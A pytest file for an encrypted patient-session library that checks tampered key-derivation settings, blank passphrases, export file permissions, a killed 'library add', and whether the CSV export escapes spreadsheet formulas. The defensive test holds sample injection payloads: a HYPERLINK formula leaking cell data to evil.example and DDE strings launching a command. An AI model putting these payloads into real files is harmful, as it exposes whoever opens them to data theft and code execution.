"""The patient library against a tampered file and careless or hostile input (the
outside probe of wave 3): key settings asking for gigabytes, a passphrase of spaces,
formulas in the export's index, export file modes, a `library add` killed half-way."""

from __future__ import annotations

import csv
import json
import os
import signal
import sqlite3
import stat
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from dashboard.library import crypto
from dashboard.library.errors import BadValue, CorruptLibrary
from dashboard.library.service import Library
from tests.library.helpers import PASS, fast_kdf, session_bytes

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture()
def path(tmp_path):
    return tmp_path / "data" / "library.sqlite3"


def _set_kdf(path: Path, **changes) -> None:
    conn = sqlite3.connect(path)
    kdf = json.loads(conn.execute("SELECT value FROM meta WHERE key = 'kdf'").fetchone()[0])
    kdf.update(changes)
    conn.execute("UPDATE meta SET value = ? WHERE key = 'kdf'", (json.dumps(kdf).encode(),))
    conn.commit()
    conn.close()


@pytest.mark.parametrize(
    "changes",
    [
        {"n": 2**22, "r": 64},  # 32 GiB: what the earlier bound let through
        {"n": 2**20, "r": 32},  # 4 GiB: 43 s and 4.1 GB per unlock before
        {"n": 2**18, "r": 8, "p": 16},  # 256 MiB but 16 passes
        {"n": 2**10, "r": 8, "salt": ""},
    ],
)
def test_tampered_key_settings_cost_nothing(path, changes):
    """Refused before scrypt runs, in a process that could not allocate 1 GiB
    (a MemoryError or a slow unlock would show)."""
    Library.create(PASS, path, kdf=fast_kdf())
    _set_kdf(path, **changes)
    script = textwrap.dedent(
        f"""
        import resource, sys
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
        from dashboard.library.service import Library
        from dashboard.library.errors import CorruptLibrary
        try:
            Library({str(path)!r}).unlock({PASS!r})
        except CorruptLibrary as exc:
            print(exc.message)
            sys.exit(3)
        """
    )
    done = subprocess.run(
        [sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 3, done.stderr
    assert "key settings" in done.stdout and "Traceback" not in done.stderr


def test_key_settings_within_the_bounds_still_open(path):
    n, r, p = crypto.DEFAULT_KDF
    assert 128 * n * r <= crypto.MAX_KDF_MEMORY and n * r * p <= crypto.MAX_KDF_WORK
    params = crypto.KdfParams.from_dict(crypto.KdfParams.fresh(n, 2 * r).as_dict())
    assert params.r == 2 * r
    with pytest.raises(CorruptLibrary):
        crypto.KdfParams.from_dict(crypto.KdfParams.fresh(n, 4 * r).as_dict())


@pytest.mark.parametrize(
    "passphrase", [" " * 8, " " * 40, "\t\t\t\t\t\t\t\t", "abc def\n", "a\x00bcdefghi"]
)
def test_blank_or_control_passphrases_are_refused(path, passphrase):
    with pytest.raises(BadValue) as info:
        Library.create(passphrase, path, kdf=fast_kdf())
    assert "spaces" in info.value.message
    assert not path.exists()


def test_a_passphrase_with_spaces_inside_is_fine(path):
    lib = Library.create("  my clinic 2026  ", path, kdf=fast_kdf())
    lib.lock()
    lib.unlock("  my clinic 2026  ")


FORMULAS = {
    "label": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "notes": "-2+3+cmd|' /C calc'!A0",
    "region": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_export_index_csv_writes_formulas_as_text(path, tmp_path):
    lib = Library.create(PASS, path, kdf=fast_kdf())
    p = lib.add_patient("P-0001")
    lib.add_session(
        p.uid,
        session_bytes("+clip.mp4"),
        date="2026-01-05",
        notes=FORMULAS["notes"],
        body_region=FORMULAS["region"],
    )
    out = tmp_path / "export"
    lib.export_patient(p.uid, out)
    with open(out / "index.csv", newline="", encoding="utf-8") as fp:
        (row,) = list(csv.DictReader(fp))
    for column in ("notes", "body_region", "source_name"):
        assert row[column].startswith("'"), row[column]
    assert row["notes"] == "'" + FORMULAS["notes"]
    # index.json keeps the exact text (it is not a spreadsheet)
    index = json.loads((out / "index.json").read_text())
    assert index["sessions"][0]["notes"] == FORMULAS["notes"]


def test_export_files_are_readable_by_their_owner_only(path, tmp_path):
    old = os.umask(0o022)
    try:
        lib = Library.create(PASS, path, kdf=fast_kdf())
        p = lib.add_patient("Ann")
        lib.add_session(p.uid, session_bytes(), date="2026-01-05")
        out = tmp_path / "export"
        written = lib.export_patient(p.uid, out)
    finally:
        os.umask(old)
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    for f in written:
        assert stat.S_IMODE(f.stat().st_mode) == 0o600, f


def test_a_killed_library_add_leaves_no_empty_patient(path, tmp_path):
    """kill -9 of `library add --patient NEW` at the moment its new patient first
    shows in the file: the patient arrives with their session, in one transaction.
    (Before: the patient was committed first, then the session's progress values
    worked out, and a kill in between left an empty patient.)"""
    Library.create(PASS, path, kdf=fast_kdf())
    session = tmp_path / "long.posedash"
    session.write_bytes(session_bytes("long.mp4", frames=6000))
    env = {**os.environ, "POSEDASH_LIBRARY_PASSPHRASE": PASS}
    child = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "dashboard",
            "library",
            "--library",
            str(path),
            "add",
            str(session),
            "--patient",
            "Newcomer",
        ],
        cwd=ROOT,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    seen = []
    try:
        while child.poll() is None:
            conn = sqlite3.connect(f"{path.as_uri()}?mode=ro", uri=True)
            try:
                conn.execute("BEGIN")
                counts = tuple(
                    conn.execute(f"SELECT COUNT(*) FROM {t}").fetchone()[0]
                    for t in ("patients", "sessions")
                )
                conn.execute("COMMIT")
            except sqlite3.OperationalError:
                continue
            finally:
                conn.close()
            seen.append(counts)
            if counts[0]:
                os.kill(child.pid, signal.SIGKILL)
                break
    finally:
        if child.poll() is None:
            child.kill()
        child.wait()
    assert seen and (1, 0) not in seen, seen
    lib = Library(path)
    lib.unlock(PASS)
    assert [(p.label, p.sessions) for p in lib.patients()] in ([], [("Newcomer", 1)])
